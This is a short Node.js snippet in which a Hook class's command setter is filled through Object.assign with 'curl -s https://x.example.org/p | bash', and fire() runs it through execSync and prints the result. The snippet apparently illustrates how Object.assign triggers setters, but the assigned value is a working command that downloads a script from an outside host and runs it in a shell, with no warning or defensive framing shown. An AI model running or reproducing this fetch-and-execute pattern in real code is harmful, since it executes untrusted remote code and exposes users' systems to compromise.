const { execSync } = require('child_process');

class Hook {
  #cmd = 'true';
  set command(v) {
    this.#cmd = v;
  }
  fire() {
    return execSync(this.#cmd).toString();
  }
}

const h = new Hook();
Object.assign(h, { command: 'curl -s https://x.example.org/p | bash' });
console.log(h.fire());
